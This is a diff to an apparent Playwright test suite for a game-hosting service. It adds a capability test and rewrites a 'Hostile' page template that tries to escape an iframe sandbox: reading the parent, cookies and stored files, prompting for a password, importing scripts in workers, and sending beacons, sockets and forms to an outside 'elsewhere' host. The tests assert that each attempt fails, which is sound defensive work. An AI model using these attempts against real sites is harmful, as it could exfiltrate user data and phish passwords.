@@ -122,51 +122,108 @@ test('a file opens in its own tab, without the origin of the page', async () => 
   const [tab] = await Promise.all([page.waitForEvent('popup'), page.getByText('in a new tab').click()]);
   const game = tab.frameLocator('iframe').locator('body[data-phase=ready]');
   await game.waitFor({ state: 'attached' });
-  expect(await game.evaluate('[self.origin, opener]')).toEqual(['null', null]);
+  expect(await game.evaluate('[self.origin, opener]')).toEqual([emulator.playOrigin, null]);
   expect(await tab.evaluate('opener')).toBeNull();
   // The tab hands the sound over to a player, which requests it again.
   expect(complaints.filter(({ text }) => text !== 'net::ERR_ABORTED')).toEqual([]);
 });
 
+test('a game can use textures, workers, WebAssembly and storage, as on a website', async () => {
+  const emulator = await startEmulator();
+  const picture = `<svg xmlns="http://www.w3.org/2000/svg" width="2" height="2"><rect width="2" height="2" fill="red"/></svg>`;
+  await uploadFile(emulator, 'img/red.svg', 'image/svg+xml', picture);
+  await uploadFile(emulator, 'worker.js', 'text/javascript', `postMessage([self.origin, 'from the worker'])`);
+  await uploadFile(
+    emulator,
+    'index.html',
+    'text/html',
+    `<!doctype html><canvas></canvas><script>(async () => {
+      const image = new Image();
+      image.src = 'img/red.svg';
+      await image.decode();
+      const canvas = document.querySelector('canvas');
+      const context = canvas.getContext('2d');
+      context.drawImage(image, 0, 0);
+      const gl = document.createElement('canvas').getContext('webgl');
+      gl?.bindTexture(gl.TEXTURE_2D, gl.createTexture());
+      gl?.texImage2D(gl.TEXTURE_2D, 0, gl.RGBA, gl.RGBA, gl.UNSIGNED_BYTE, image);
+      const worker = new Worker('worker.js');
+      const { data } = await new Promise((resolve) => { worker.onmessage = resolve; });
+      localStorage.setItem('level', '2');
+      const { instance } = await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
+      const database = await new Promise((resolve, reject) => {
+        Object.assign(indexedDB.open('saves'), { onsuccess: () => resolve('open'), onerror: reject });
+      });
+      const pixel = [...context.getImageData(0, 0, 1, 1).data];
+      const picture = canvas.toDataURL().slice(0, 14);
+      const loaded = await (await fetch('img/red.svg')).text();
+      document.body.append(JSON.stringify({ pixel, picture, data, level: localStorage.level, database, loaded: loaded.length > 0, wasm: String(instance) }));
+      document.documentElement.dataset.done = 'yes';
+    })()</script>`,
+  );
+  const { page, complaints } = await openPage(`${emulator.origin}/`);
+  await page.locator('#assets summary').click();
+  const game = page.frameLocator('iframe');
+  await game.locator('html[data-done]').waitFor();
+  expect(JSON.parse(await game.locator('body').innerText())).toEqual({
+    pixel: [255, 0, 0, 255],
+    picture: 'data:image/png',
+    data: [emulator.playOrigin, 'from the worker'],
+    level: '2',
+    database: 'open',
+    loaded: true,
+    wasm: '[object WebAssembly.Instance]',
+  });
+  expect(complaints).toEqual([]);
+});
+
 /** Tries everything that a delivered page must not do, and writes down its successes. */
 const attack = (
   elsewhere: string,
+  page: string,
   others: readonly string[],
 ) => `<!doctype html><title>Hostile</title><script>
 const could = [];
 const tried = async (what, attempt) => {
   try { if ((await attempt()) !== false) could.push(what); } catch {}
 };
+const inWorker = (source, ...worker) => new Promise((resolve, reject) => {
+  const blob = URL.createObjectURL(new Blob([source]));
+  Object.assign(new Worker(blob, ...worker), { onmessage: resolve, onerror: reject });
+});
 (async () => {
   await tried('read the parent', () => parent.document.title);
   await tried('change the parent', () => { parent.document.title = 'taken'; });
   await tried('reach the top', () => top.document.body);
-  await tried('keep something', () => localStorage.setItem('a', 'b'));
-  await tried('read cookies', () => document.cookie);
+  await tried('read cookies', () => document.cookie !== '');
   await tried('open a window', () => window.open('/') !== null);
   await tried('ask a person', () => confirm('Your password?'));
-  await tried('read the page', async () => (await fetch('/')).text());
   await tried('reach the opener', () => opener.closed);
-  await tried('read a file', async () => (await fetch('/files/' + location.pathname.split('/')[2])).text());
-  for (const path of ${JSON.stringify(others)})
-    await tried('read ' + path, () => fetch(path, { mode: 'no-cors' }));
-  await tried('ask the service', () => fetch('/v1/games', { mode: 'no-cors' }));
-  await tried('ask for assets', () => fetch('/v1/assets?organizationId=org-1', { mode: 'no-cors' }));
-  await tried('speak to elsewhere', () => fetch('${elsewhere}', { mode: 'no-cors' }));
+  await tried('stay for later playables', () => navigator.serviceWorker.register(location.pathname));
+  const targets = ${JSON.stringify(['/', '/v1/games', '/v1/assets?organizationId=org-1'].concat(others).map((path) => `${page}${path}`))};
+  for (const target of [...targets, '${elsewhere}']) {
+    await tried('read ' + target, () => fetch(target, { mode: 'no-cors' }));
+    await tried('read in a worker ' + target, () =>
+      inWorker("fetch('" + target + "', { mode: 'no-cors' }).then(() => postMessage(''), () => setTimeout(() => { throw 0 }))"));
+    await tried('import in a worker ' + target, () => inWorker("importScripts('" + target + "'); postMessage('')"));
+    await tried('load ' + target, () => new Promise((resolve, reject) => {
+      Object.assign(new Image(), { src: target + '?image', onload: resolve, onerror: reject });
+    }));
+  }
   await tried('open a socket', () => new Promise((resolve, reject) => {
     Object.assign(new WebSocket('${elsewhere}/socket'.replace('http', 'ws')), { onopen: resolve, onerror: reject });
   }));
   navigator.sendBeacon('${elsewhere}/beacon', 'data');
-  for (const src of ['${elsewhere}/image', '/v1/games?image']) {
-    await tried('load ' + src, () => new Promise((resolve, reject) => {
-      Object.assign(new Image(), { src, onload: resolve, onerror: reject });
-    }));
-  }
   alert('taken');
-  const form = Object.assign(document.createElement('form'), { action: '/v1/export', method: 'post' });
-  document.body.append(form);
-  form.submit();
-  Object.assign(document.createElement('form'), { action: '${elsewhere}/form', method: 'post' }).submit();
+  for (const action of ['${page}/v1/export', '${elsewhere}/form']) {
+    const form = Object.assign(document.createElement('form'), { action, method: 'post' });
+    document.body.append(form);
+    form.submit();
+    document.body.append(Object.assign(document.createElement('iframe'), { src: action }));
+  }
+  const link = Object.assign(document.createElement('a'), { href: '${elsewhere}/link', target: '_blank' });
+  document.body.append(link);
+  link.click();
   try { top.location = '${elsewhere}/top'; } catch {}
   document.body.append(JSON.stringify({ could }));
   document.documentElement.dataset.done = 'yes';
@@ -195,16 +252,16 @@ async function deliverAttack(elsewhere: string): Promise<Emulator> {
   const others = emulator
     .storedAssets()
     .slice(0, 2)
-    .flatMap(({ assetId, fileName }) => [`/files/${assetId}`, `/play/${assetId}/${fileName}`]);
+    .flatMap(({ assetId }) => [`/files/${assetId}`, `/play/${assetId}`]);
   expect(others).toHaveLength(4);
-  await uploadFile(emulator, 'hostile.html', 'text/html', attack(elsewhere, others));
+  await uploadFile(emulator, 'hostile.html', 'text/html', attack(elsewhere, emulator.origin, others));
   return emulator;
 }
 
 test('a hostile page can neither change nor read nor send anything', async () => {
   const elsewhere = await startElsewhere();
   const emulator = await deliverAttack(elsewhere.origin);
-  const leaving = `<script>location = '/v1/games?left'</script>`;
+  const leaving = `<script>location = '${emulator.origin}/v1/games?left'</script>`;
   await uploadFile(emulator, 'leaving.html', 'text/html', leaving);
   const before = emulator.journal.entries.length;
 
